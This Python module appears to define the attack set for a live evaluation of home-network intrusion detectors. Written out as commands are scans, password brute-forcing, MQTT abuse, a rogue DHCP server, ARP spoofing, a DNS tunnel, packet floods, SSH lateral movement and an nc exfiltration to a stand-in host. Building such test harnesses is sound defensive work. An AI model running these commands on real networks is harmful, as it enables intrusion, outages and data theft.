# SPDX-License-Identifier: Apache-2.0
"""The attacks of the live evaluation: real tools, most by a host of their own, and the detectors that are right to tell.

Each is bounded: by what its tool is told to send, and by the seconds after which it is ended.
"""

from dataclasses import dataclass, field
from typing import Callable

from household import CLOUD, NETWORK, PASSWORD, ROUTER, SERVERS, SINK_PORT, STRANGER, THINGS, TUNNEL, USER, WEB

# The first octet of the attackers' addresses. The household's and its leases are below.
FIRST_OCTET = 100
# An address of the Internet that nobody has.
SILENT = f"{CLOUD}.66"
# The longest that an attack lasts.
MOST_SECONDS = 60
# When a device has been watched for so long that what is new for it means something, with a minute to spare.
SETTLED = 1260


@dataclass
class Attack:
    """What is done, with which tool, and who is right to tell of it."""

    name: str
    tool: str
    package: str
    expected: list
    act: Callable
    # What the tool works against, as far as it may be missing as well.
    needs: list = field(default_factory=list)
    # Who does it: a host of the household that was taken over, the cloud, or where it is empty a host of its own.
    by: str = ""
    # The host that alerts are right to name, where it is not the attacker.
    about: str = ""
    # The seconds for which the household must have lived, where a detector compares with them.
    after: int = 0


def words(script):
    """A script of the attacker's, with the household's addresses in it."""

    def act(home, attacker):
        home.segment.run(attacker, "sh", "-c", script.format(**places(home)), seconds=MOST_SECONDS)
    return act


def places(home):
    hosts = {host: home.segment.address(host) for host in SERVERS | THINGS}
    return hosts | {
        "home": f"{NETWORK}.0/24", "internet": f"{CLOUD}.0/24", "router": ROUTER, "silent": SILENT, "sink": SINK_PORT,
        "stranger": f"{CLOUD}.{STRANGER}", "web": f"{CLOUD}.{WEB}", "tunnel": TUNNEL, "user": USER, "password": PASSWORD,
        "guesses": home.write("guesses", "".join(f"guess-{number}\n" for number in range(60)))}


def offer_leases(home, attacker):
    """A second DHCP server, which says that it is router and resolver, and a guest who asks for an address."""
    own = home.segment.address(attacker)
    server = home.segment.start(
        attacker, "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=0", "--interface=eth0",
        "--bind-interfaces", "--user=root", "--no-ping", f"--dhcp-range={NETWORK}.200,{NETWORK}.219,5m",
        f"--dhcp-option=option:router,{own}", f"--dhcp-option=option:dns-server,{own}",
        f"--dhcp-leasefile={home.folder}/rogue.leases", f"--pid-file={home.folder}/rogue.pid")
    home.segment.run("guest", "sh", "-c", "sleep 1; udhcpc -f -n -q -i eth0 -s /bin/true -t 3 -T 2", seconds=15)
    home.segment.end(server)


def carry_data(home, attacker):
    """A tunnel through the resolver, and a few packets through the tunnel."""
    tunnel = home.segment.start(attacker, "iodine", "-f", "-r", "-P", PASSWORD, ROUTER, TUNNEL)
    home.segment.run(attacker, "sh", "-c", "sleep 12; ping -c 20 -i 0.2 -s 400 -W 1 10.53.0.1", seconds=25)
    home.segment.end(tunnel)


HYDRA = "hydra -I -w 5 -l root -P {guesses} -t 4 {storage}"
FLOOD = "hping3 -q -i u200 -c 15000"

ATTACKS = [
    # Scans.
    Attack("scan of a host's TCP ports", "nmap", "nmap", ["vertical-scan"], words("nmap -n -Pn -sS {storage}")),
    Attack("slow scan of a host's TCP ports", "nmap", "nmap", ["vertical-scan"],
           words("nmap -n -Pn -sS -T2 --top-ports 50 {storage}")),
    Attack("scan of a host's UDP ports", "nmap", "nmap", ["vertical-scan"],
           words("nmap -n -Pn -sU --top-ports 100 --max-retries 1 {hub}")),
    Attack("search for hosts of the segment", "nmap", "nmap", ["arp-sweep"], words("nmap -n -sn {home}")),
    Attack("search for Telnet on the segment", "nmap", "nmap", ["arp-sweep", "horizontal-scan"],
           words("nmap -n -sS -p 23,2323 {home}")),
    Attack("search for Telnet on the Internet", "nmap", "nmap", ["horizontal-scan"],
           words("nmap -n -Pn -sS -p 23 --max-retries 0 {internet}")),
    Attack("search for Telnet on the Internet", "masscan", "masscan", ["horizontal-scan"],
           words("masscan -p 23 --rate 100 --wait 2 --interface eth0 {internet}")),
    # Guessed passwords.
    Attack("passwords guessed by SSH", "hydra", "hydra", ["brute-force"], words(HYDRA + " ssh"), needs=["sshd"]),
    Attack("passwords guessed by SSH", "ncrack", "ncrack", ["brute-force"],
           words("ncrack -p 22 --user root -P {guesses} {storage}"), needs=["sshd"]),
    Attack("passwords guessed by Telnet", "ncrack", "ncrack", ["brute-force"],
           words("ncrack -p 23 --user root -P {guesses} {storage}"), needs=["telnetd", "inetutils-inetd"]),
    Attack("passwords guessed by FTP", "hydra", "hydra", ["brute-force"], words(HYDRA + " ftp"), needs=["vsftpd"]),
    Attack("passwords guessed by HTTP", "hydra", "hydra", ["brute-force"], words(HYDRA + " http-get /private/")),
    Attack("passwords guessed by MQTT", "mosquitto_pub", "mosquitto-clients", ["brute-force"],
           words("for n in $(seq 15); do mosquitto_pub -h {hub} -u {user} -P guess-$n -t home/x -m x; sleep 0.3; done")),
    # MQTT.
    Attack("every MQTT topic read", "mosquitto_sub", "mosquitto-clients", ["mqtt-topics"],
           words("mosquitto_sub -h {hub} -t '#' -W 5")),
    Attack("another client's MQTT name used", "mosquitto_sub", "mosquitto-clients", ["client-takeover"],
           words("mosquitto_sub -h {hub} -i thermostat-in -t home/thermostat/set -W 5")),
    Attack("30,000 MQTT messages at once", "mosquitto_pub", "mosquitto-clients", ["publish-flood"],
           words("seq 30000 | mosquitto_pub -h {hub} -l -t home/x/state")),
    # The network's own services.
    Attack("a second DHCP server", "dnsmasq", "dnsmasq-base", ["rogue-server"], offer_leases),
    Attack("all leases taken", "dhcpstarv", "dhcpstarv", ["rogue-server"], words("timeout -s KILL 10 dhcpstarv -i eth0")),
    Attack("ARP spoofing between camera and router", "arpspoof", "dsniff", ["arp-spoof"],
           words("timeout 15 arpspoof -i eth0 -t {camera} {router} & timeout 15 arpspoof -i eth0 -t {router} {camera}")),
    Attack("a tunnel in DNS", "iodine", "iodine", ["dns-tunnel"], carry_data, needs=["iodined"]),
    Attack("a name that leads into the home", "curl", "curl", ["resolver-change"],
           words("curl -s -o /dev/null http://page.rebind.example/")),
    # Floods.
    Attack("SYN flood of a silent host", "hping3", "hping3", ["flood-out"], words(FLOOD + " -S -p 80 {silent}")),
    Attack("UDP flood of a silent host", "hping3", "hping3", ["flood-out"], words(FLOOD + " -2 -p 9 -d 64 {silent}")),
    Attack("ICMP flood of a silent host", "hping3", "hping3", ["flood-out"], words(FLOOD + " -1 {silent}")),
    Attack("SYN flood of a server that answers", "hping3", "hping3", ["flood-out"], words(FLOOD + " -S -p 80 {web}")),
    Attack("SYN flood under false addresses", "hping3", "hping3", ["spoofed-source", "flood-out"],
           words(FLOOD + " -S -p 80 --rand-source {web}")),
    # From the Internet.
    Attack("a page of the storage fetched from the Internet", "curl", "curl", ["exposed-service"],
           words("curl -s -o /dev/null --interface {web} http://{storage}/"), by="cloud", about="storage"),
    Attack("CoAP asked from the Internet for large answers", "coap-client-notls", "libcoap3-bin", ["coap-amplification"],
           words("for n in $(seq 15); do coap-client-notls -a {web} -B 2 coap://{lamp}/log; done"), by="cloud", about="lamp"),
    Attack("UDP flood of the camera from the Internet", "hping3", "hping3", ["flood-in"],
           words("hping3 -q -i u200 -c 75000 -2 -p 9 -d 64 {camera}"), by="cloud", about="camera", after=400),
    # Things that were taken over.
    Attack("SSH to a neighbour, by the motion sensor", "ssh", "openssh-client", ["lateral-movement"],
           words("ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{storage}"),
           needs=["sshd"], by="motion", after=SETTLED),
    Attack("a call to the Internet, by the motion sensor", "curl", "curl", ["new-destination"],
           words("curl -s -o /dev/null http://{stranger}/"), by="motion", after=SETTLED),
    Attack("60 MB to a stranger, by the thermostat", "busybox", "busybox", ["exfiltration"],
           words("head -c 60000000 /dev/zero | busybox nc -w 5 {stranger} {sink}"), by="thermostat", after=SETTLED),
]

# The attackers that bring a host of their own, with its last octet.
OWN_HOSTS = {}
for octet, attack in enumerate(ATTACKS, start=FIRST_OCTET):
    if not attack.by:
        attack.by = f"attacker-{octet}"
        OWN_HOSTS[attack.by] = octet
    attack.about = attack.about or attack.by
